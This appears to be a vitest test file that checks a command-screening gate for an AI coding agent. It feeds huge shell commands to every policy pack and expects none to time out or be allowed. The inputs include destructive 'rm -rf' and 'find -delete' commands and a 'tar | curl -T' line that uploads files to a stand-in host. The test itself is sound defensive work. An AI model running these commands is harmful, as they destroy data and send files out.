import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, expect, it } from 'vitest'
import { createGate } from '../../src/library/index.ts'
import { claudeShell } from '../support/wire.ts'

const policies = fileURLToPath(new URL('../../policies', import.meta.url))
const folder = mkdtempSync(join(tmpdir(), 'hookgate-cost-'))
const packs = readdirSync(policies).filter((name) => existsSync(join(policies, name, 'pack.json')))
writeFileSync(join(folder, 'hooks.json'), JSON.stringify({ packs: packs.map((pack) => ({ pack })) }))
const gate = createGate({ rules: [join(folder, 'hooks.json')], discover: false, home: folder, env: { HOME: folder } })
afterAll(async () => {
  await gate.close()
  rmSync(folder, { recursive: true })
})

const many = (times: number, one: (at: number) => string, between = ' ') =>
  Array.from({ length: times }, (_, at) => one(at)).join(between)

const expensive: Readonly<Record<string, string>> = {
  'thousands of files to delete': `rm -rf ${many(20_000, (at) => `/srv/f${at}`)}`,
  'thousands of files to read': `cat ${many(20_000, (at) => `f${at}`)}`,
  'thousands of files to send': `tar czf - ${many(15_000, (at) => `f${at}`)} | curl -T - http://a.example`,
  'thousands of patterns': `rm ${many(1000, (at) => `/home/*/*/${at}*/[a-z]*`)}`,
  'thousands of starting points': `find ${many(15_000, (at) => `f${at}`)} -delete`,
  'thousands of options': `docker run ${many(10_000, (at) => `-v /a${at}:/b`)} x`,
  'thousands of words for a server': `curl ${many(20_000, (at) => `w${at}`)}`,
  'wrappers of wrappers': `${'env '.repeat(2000)}ls`,
  'hundreds of commands with hundreds of words': many(600, () => `echo ${'a '.repeat(100)}`, ';'),
  'hundreds of commands with files': many(600, (at) => `cp a${at} b${at} c d e`, ';'),
  'hundreds of links between files': many(600, (at) => `cat f${at} > f${at + 1}`, ';'),
  'a search that starts a thousand programs': `find . ${'-exec rm {} \\; '.repeat(1000)}`,
  'a program by a pattern of thousands of folders': `${'/**'.repeat(20_000)}/rm x`,
  'a pattern of thousands of wildcards': `rm -rf /${'*?'.repeat(250)}x`,
  'a path that is longer than any': `cat ${'/a'.repeat(60_000)}`,
  'an address that is longer than any': `curl http://a.example/${'a.'.repeat(60_000)}`,
}

it('no policy runs out of its time, and nothing is allowed', async () => {
  for (const [name, command] of Object.entries(expensive)) {
    // oxlint-disable no-await-in-loop -- together they would wait for each other
    const event = await gate.decode(claudeShell(command, folder), { agent: 'claude-code' })
    const { decision, evaluations } = await gate.decide(event)
    // oxlint-enable no-await-in-loop
    const failures = evaluations.flatMap((one) => (one.kind === 'indeterminate' ? [one.failure.message] : []))
    expect({ name, failures }).toEqual({ name, failures: [] })
    expect({ name, decision }).not.toEqual({ name, decision: 'allow' })
  }
})
